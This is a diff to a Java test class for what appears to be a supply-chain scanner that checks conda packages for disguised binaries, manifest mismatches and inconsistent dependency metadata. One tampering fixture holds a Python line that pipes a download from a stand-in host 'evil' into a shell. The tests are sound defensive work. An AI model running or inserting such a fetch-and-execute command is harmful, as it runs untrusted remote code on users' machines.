@@ -168,20 +168,129 @@ class DistributionFilesRuleTest {
     }
 
     @Test
-    void condaPackagesAreBinaryByNature() {
-      InspectedDistribution conda =
+    void condaPackagesShipProgramsButNotDisguisedOnes() {
+      assertThat(
+              check(
+                  condaIndex(),
+                  Map.of(),
+                  conda(
+                      binary("lib/libpkg.so", BinaryFormat.ELF),
+                      binary("Scripts/pkg.exe", BinaryFormat.PE))))
+          .isEmpty();
+      assertThat(
+              check(condaIndex(), Map.of(), conda(binary("share/pkg/logo.png", BinaryFormat.ELF))))
+          .singleElement()
+          .satisfies(f -> assertThat(f.message()).contains("share/pkg/logo.png (ELF)"));
+    }
+  }
+
+  @Nested
+  class CondaManifests {
+
+    @Test
+    void aConsistentCondaPackageIsFine() {
+      assertThat(
+              check(
+                  condaIndex(),
+                  Map.of(),
+                  conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"))))
+          .isEmpty();
+    }
+
+    @Test
+    void aFileWhoseBytesDifferFromPathsJsonOrThatItDoesNotListIsHigh() {
+      InspectedDistribution good = conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"));
+      List<ArchiveEntry> tampered = new ArrayList<>(good.entries());
+      tampered.replaceAll(
+          e ->
+              e.path().equals("site-packages/pkg/__init__.py")
+                  ? hashed(e.path(), "import os; os.system('curl evil | sh')\n")
+                  : e);
+      tampered.add(hashed("site-packages/pkg/extra.py", "print()\n"));
+      InspectedDistribution altered =
           new InspectedDistribution(
-              file("pkg-2.0-h123_0.conda", DistributionFile.Kind.CONDA, NOW),
+              good.file(), good.sha256(), good.bytes(), good.format(), tampered, List.of());
+
+      assertThat(check(condaIndex(), Map.of(), altered))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-py_0.tar.bz2 does not match its own manifest: files whose size"
+                            + " or hash differs from info/paths.json:"
+                            + " site-packages/pkg/__init__.py; files info/paths.json does not"
+                            + " list: site-packages/pkg/extra.py");
+              });
+    }
+
+    @Test
+    void anIndexJsonThatDisagreesWithTheChannelIsHigh() {
+      PackageMetadata channelSays =
+          wellKept("pkg").requiresDist(List.of("python >=3.8", "numpy")).build();
+      assertThat(
+              check(
+                  channelSays, Map.of(), conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"))))
+          .singleElement()
+          .satisfies(
+              f ->
+                  assertThat(f.message())
+                      .contains(
+                          "its info/index.json says dependencies that differ from the channel's"
+                              + " (only in the package: requests >=2) (only in the channel:"
+                              + " numpy)"));
+    }
+
+    @Test
+    void aCondaPackageWithoutIndexJsonIsHigh() {
+      InspectedDistribution bare =
+          new InspectedDistribution(
+              file("pkg-2.0-py_0.tar.bz2", DistributionFile.Kind.CONDA, NOW),
               "ab".repeat(32),
               10,
-              InspectedDistribution.Format.CONDA,
-              List.of(
-                  binary("lib/libpkg.so", BinaryFormat.ELF),
-                  binary("Scripts/pkg.exe", BinaryFormat.PE)),
+              InspectedDistribution.Format.TAR,
+              List.of(hashed("site-packages/pkg/__init__.py", "x = 1\n")),
               List.of());
-
-      assertThat(check(conda)).isEmpty();
+      assertThat(check(condaIndex(), Map.of(), bare))
+          .singleElement()
+          .satisfies(f -> assertThat(f.message()).contains("it has no readable info/index.json"));
     }
+  }
+
+  /** What the channel says of pkg 2.0: its repodata record's name, version and depends. */
+  private static PackageMetadata condaIndex() {
+    return wellKept("pkg").requiresDist(List.of("python >=3.8", "requests >=2")).build();
+  }
+
+  /** A conda package of pkg 2.0 (build py_0) whose info/ describes exactly {@code files}. */
+  private static InspectedDistribution conda(ArchiveEntry... files) {
+    List<ArchiveEntry> entries = new ArrayList<>(List.of(files));
+    StringBuilder paths = new StringBuilder("{\"paths_version\": 1, \"paths\": [");
+    for (int i = 0; i < files.length; i++) {
+      paths
+          .append(i == 0 ? "" : ",")
+          .append("{\"_path\": \"")
+          .append(files[i].path())
+          .append("\", \"path_type\": \"hardlink\", \"size_in_bytes\": ")
+          .append(files[i].size())
+          .append(", \"sha256\": \"")
+          .append(files[i].sha256().orElseThrow())
+          .append("\"}");
+    }
+    entries.add(hashed("info/paths.json", paths.append("]}").toString()));
+    entries.add(
+        hashed(
+            "info/index.json",
+            "{\"name\": \"pkg\", \"version\": \"2.0\", \"build\": \"py_0\","
+                + " \"depends\": [\"python >=3.8\", \"requests >=2\"]}"));
+    return new InspectedDistribution(
+        file("pkg-2.0-py_0.tar.bz2", DistributionFile.Kind.CONDA, NOW),
+        "ab".repeat(32),
+        10,
+        InspectedDistribution.Format.TAR,
+        entries,
+        List.of());
   }
 
   @Nested
